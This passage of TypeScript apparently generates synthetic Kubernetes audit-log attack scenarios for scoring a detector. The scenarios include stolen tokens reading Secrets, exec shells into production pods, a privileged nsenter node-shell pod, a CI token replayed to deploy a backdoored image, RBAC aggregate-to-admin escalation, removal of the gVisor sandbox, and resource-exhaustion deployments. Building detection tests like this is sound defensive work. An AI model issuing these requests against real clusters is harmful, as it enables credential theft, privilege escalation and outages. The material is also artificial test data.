  onLaptop("malware on a contractor's laptop, through the partner's VPN", c1, 11.3, [
    ['GET', '/api/v1/namespaces/tools-staging/secrets/asset-indexer-s3', true],
    ['GET', '/api/v1/namespaces/matchmaking-prod/secrets?limit=500', true],
    ['GET', '/api/v1/namespaces/inventory-prod/secrets/inventory-postgres', true],
  ], 15 * S);
  // 2. Another of the partner's clients' staff at the same VPN egress with contractor 2's copied
  // token (a shared drive's kubeconfig), kubectl on their own Linux laptop.
  const c2l = lastOf(routine, c2.name, T(14));
  add("another partner client at the shared VPN egress with a contractor's token", T(14.1), PARTNER_VPN, 'kubectl/v1.30.6 (linux/amd64) kubernetes/6b2a7e4', c2l.login, on([
    ['GET', '/api/v1/namespaces/tools-dev/pods?limit=500', false],
    ['GET', '/api/v1/namespaces/tools-dev/secrets/asset-indexer-s3', true],
    ['GET', '/api/v1/namespaces/tools-staging/pods/asset-indexer-7c9d4f-h2k8s/exec?command=sh&stdin=true&stdout=true&tty=true', true, WS],
  ]), 20 * S, c2);
  // 3. The hot desk at 18:20: the day shift's kubelogin cache still on the machine (the night
  // shift's engineer, or whoever sits down, runs kubectl before their own sign-in).
  const d1 = by('liveops-day-1');
  const hd = lastOf(routine, d1.name, T(17.9));
  add("hot desk: the previous shift's cached token (18:20)", T(18.33), HOTDESK[0]!, hd.ua, hd.login, on([
    ['GET', '/api/v1/namespaces/matchmaking-prod/pods?limit=500', false],
    ['GET', '/api/v1/namespaces/matchmaking-prod/secrets/matchmaking-redis', true],
    ['GET', '/api/v1/namespaces/matchmaking-prod/pods/matchmaking-7c9d4f-p5q1w/exec?command=sh&container=matchmaking&stdin=true&stdout=true&tty=true', true, WS],
  ]), 30 * S, d1);
  // 3b. The same desk at 06:10: the night shift signed in at 18:00 yesterday; the day shift's
  // engineer sat down and the night's token answers.
  const n1 = by('liveops-night-1');
  const nt = lastOf(routine, n1.name, T(5.95));
  add("hot desk: the night shift's cached token at the 06:00 handover", T(6.05), HOTDESK[0]!, nt.ua, nt.login, on([
    ['GET', '/api/v1/namespaces/matchmaking-prod/secrets/matchmaking-redis', true],
  ]), 10 * S, n1);
  // 4. A Telepresence-style traffic-agent sidecar injected into production's matchmaking (a JSON
  // patch adding a container, as the agent injector would), from the Telepresence user's laptop.
  const tp = by('telepresence');
  onLaptop('traffic-agent sidecar injected into a production Deployment (Telepresence laptop)', tp, 15.2, [
    ['GET', '/apis/apps/v1/namespaces/matchmaking-prod/deployments/matchmaking', false],
    ['PATCH', '/apis/apps/v1/namespaces/matchmaking-prod/deployments/matchmaking', true, JSONPATCH, JSON.stringify([
      { op: 'add', path: '/spec/template/spec/containers/-', value: { name: 'traffic-agent', image: 'ghcr.io/telepresenceio/tel2:2.20.2', args: ['agent'], ports: [{ name: 'tm-http', containerPort: 9900 }], env: [{ name: '_TEL_AGENT_MANAGER_HOST', value: '45.86.162.44' }, { name: '_TEL_AGENT_APP_PORT', value: '8080' }] } },
      { op: 'add', path: '/spec/template/metadata/annotations', value: { 'telepresence.getambassador.io/inject-traffic-agent': 'enabled' } },
    ])],
  ], 5 * S);
  // 5. The notebook's service-account token (Kubeflow's default-editor, readable from the notebook
  // by any code it runs) used from a VPS outside.
  const sa: Login = { sub: 'system:serviceaccount:ml-team:default-editor', sid: '', authTime: undefined, acr: 'urn:stepgate:aal1', serviceAccount: true };
  add("Kubeflow notebook's service-account token used from outside", T(13.4), '45.86.162.44', 'kubectl/v1.31.0 (linux/amd64) kubernetes/9edcffc', sa, on([
    ['GET', '/api/v1/namespaces/ml-team/pods?limit=500', false],
    ['GET', '/api/v1/namespaces/ml-team/secrets/feature-store-creds', true],
    ['POST', '/api/v1/namespaces/ml-team/pods', true, JSON_CT, JSON.stringify({ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'nb-util' }, spec: { containers: [{ name: 'x', image: 'alpine:3.20', command: ['sh', '-c', 'sleep 1d'] }] } })],
  ]), 10 * S);
  // 6. Preemption: a Deployment in the contractor's own dev namespace with the launch's top
  // PriorityClass and requests sized to a game-server node; the scheduler evicts production's
  // game servers to place it. From the contractor's laptop.
  onLaptop('top PriorityClass preempts production from the tools namespace (contractor laptop)', c2, 16.1, [
    ['POST', '/apis/apps/v1/namespaces/tools-dev/deployments?fieldManager=kubectl-create', true, JSON_CT, deployment('asset-cache-warm', 'tools-dev', { priorityClassName: 'game-critical', containers: [{ name: 'warm', image: 'registry.ember.example/tools/asset-indexer:1.31.0', resources: { requests: { cpu: '15', memory: '56Gi' } } }] }, 60)],
  ], 1000);
  // 7. The UGC sandbox's Deployment moved off gVisor (runtimeClassName removed by a JSON patch):
  // players' mods then run on the host kernel. From the release lead's laptop (they patch
  // production all evening).
  const rel = by('release');
  onLaptop('user-generated-content sandbox moved to the unsandboxed runtime (release laptop)', rel, 16.3, [
    ['PATCH', '/apis/apps/v1/namespaces/gameserver-prod/deployments/ugc-sandbox', true, JSONPATCH, JSON.stringify([{ op: 'remove', path: '/spec/template/spec/runtimeClassName' }])],
  ], 1000);
  // 8. `kubectl node-shell ip-…` in production: a privileged pod with the host's PID namespace
  // pinned to a game-server node, nsenter into the node. From live-ops' hot desk during the day shift.
  const d2 = by('liveops-day-2');
  const node = 'ip-10-60-41-9.eu-west-1.compute.internal';
  onLaptop('kubectl node-shell on a production node (hot desk)', d2, 15.6, [
    ['POST', '/api/v1/namespaces/gameserver-prod/pods', true, JSON_CT, JSON.stringify({ apiVersion: 'v1', kind: 'Pod', metadata: { name: `nsenter-${'x7k2qd'}`, labels: { app: 'node-shell' } }, spec: { nodeName: node, hostPID: true, hostNetwork: true, hostIPC: true, tolerations: [{ operator: 'Exists' }], containers: [{ name: 'shell', image: 'docker.io/library/alpine', command: ['nsenter'], args: ['-t', '1', '-m', '-u', '-i', '-n', 'sleep', '14000'], stdin: true, tty: true, securityContext: { privileged: true } }] } })],
    ['GET', `/api/v1/namespaces/gameserver-prod/pods/nsenter-x7k2qd/attach?container=shell&stdin=true&stdout=true&tty=true`, true, WS],
  ], 8 * S);
  // 9. A ClusterRole labelled aggregate-to-admin: every admin binding in every namespace silently
  // gains its rules (Secrets, exec, nodes/proxy). From the migration engineer's laptop.
  const mig = by('migration');
  onLaptop('aggregate-to-admin ClusterRole widens every admin (platform laptop)', mig, 14.4, [
    ['POST', '/apis/rbac.authorization.k8s.io/v1/clusterroles?fieldManager=kubectl-create', true, JSON_CT, JSON.stringify({ apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'ClusterRole', metadata: { name: 'migration-helper', labels: { 'rbac.authorization.k8s.io/aggregate-to-admin': 'true' } }, rules: [{ apiGroups: [''], resources: ['nodes/proxy', 'secrets', 'pods/exec'], verbs: ['*'] }] })],
  ], 1000);
  // 10. The tools namespace's ResourceQuota and LimitRange deleted, then a Deployment with no
  // limits scaled to exhaust the shared node pool. From contractor 1's laptop.
  onLaptop('ResourceQuota and LimitRange deleted before resource exhaustion (contractor laptop)', c1, 15.4, [
    ['GET', '/api/v1/namespaces/tools-dev/resourcequotas?limit=500', false],
    ['DELETE', '/api/v1/namespaces/tools-dev/resourcequotas/tools-compute', true],
    ['DELETE', '/api/v1/namespaces/tools-dev/limitranges/tools-defaults', true],
    ['POST', '/apis/apps/v1/namespaces/tools-dev/deployments?fieldManager=kubectl-create', true, JSON_CT, deployment('indexer-burst', 'tools-dev', { containers: [{ name: 'burn', image: 'registry.ember.example/tools/asset-indexer:1.31.0', command: ['sh', '-c', 'while :; do :; done'] }] }, 400)],
  ], 6 * S);
  // 11. Mass cordon of the game-server nodes at launch (one PATCH per node, a second apart), from
  // the release lead's laptop an hour after their own cordon.
  onLaptop("mass cordon of the game-server nodes (release laptop)", rel, 18.6, Array.from({ length: 10 }, (_, k): AttackRequest =>
    ['PATCH', `/api/v1/nodes/ip-10-60-${40 + k}-${11 + k}.eu-west-1.compute.internal`, true, SMP, JSON.stringify({ spec: { unschedulable: true } })],
  ), 1000);
  // 11b. The same with NoExecute taints, slowly (one every 3 minutes), from the migration laptop.
  onLaptop('NoExecute taints on game-server nodes, slowly (platform laptop)', mig, 15.8, Array.from({ length: 4 }, (_, k): AttackRequest =>
    ['PATCH', `/api/v1/nodes/ip-10-60-${50 + k}-${21 + k}.eu-west-1.compute.internal`, true, SMP, JSON.stringify({ spec: { taints: [{ key: 'ember.example/maintenance', value: 'true', effect: 'NoExecute' }] } })],
  ), 3 * M);
  // 12. CI's token (a job's, leaked through a build log) replayed from a spot instance of the
  // attacker's own in the same region (a public address of AWS eu-west-1's): a backdoored image
  // into staging (CI's own shape), then production.
  const ci = routine.find((e) => e.actor === 'ci' && e.scored && e.at >= T(12))!;
  add("CI's token replayed from another spot instance in the region", ci.at + 3 * M, '34.245.199.77', ci.ua, ci.login, on([
    ['PATCH', '/apis/apps/v1/namespaces/inventory-staging/deployments/inventory?fieldManager=kubectl-set', true, SMP, JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'inventory', image: 'ghcr.io/ember-build-cache/inventory:sha-5e1f' }] } } } })],
    ['PATCH', '/apis/apps/v1/namespaces/inventory-prod/deployments/inventory?fieldManager=kubectl-set', true, SMP, JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'inventory', image: 'ghcr.io/ember-build-cache/inventory:sha-5e1f' }] } } } })],
    ['GET', '/api/v1/namespaces/inventory-staging/secrets/inventory-redis', true],
  ]), 5 * S);
  // 13. During the migration: malware on the platform laptop copies Secrets from production
  // namespaces the migration does not move today, at the migration's pace.
  onLaptop('Secrets copied from namespaces the migration does not move (platform laptop)', mig, 10.9, [
    ['GET', '/api/v1/namespaces/inventory-prod/secrets?limit=500', true],
    ['GET', '/api/v1/namespaces/matchmaking-prod/secrets?limit=500', true],
  ], 20 * S);
  // 14. The red team's exercise as cover: malware on a red-teamer's laptop leaves the range for
  // production (a shell in the game servers), its first request the range's own.
  const rt = by('redteam-1');
  onLaptop("red-teamer's laptop leaves the range for production", rt, 11.2, [
    ['GET', '/api/v1/namespaces/redteam-range/secrets/range-flag', true],
    ['GET', '/api/v1/namespaces/gameserver-prod/pods/gameserver-7c9d4f-h2k8s/exec?command=sh&container=gameserver&stdin=true&stdout=true&tty=true', true, WS],
  ], 30 * S);
  return out;
}
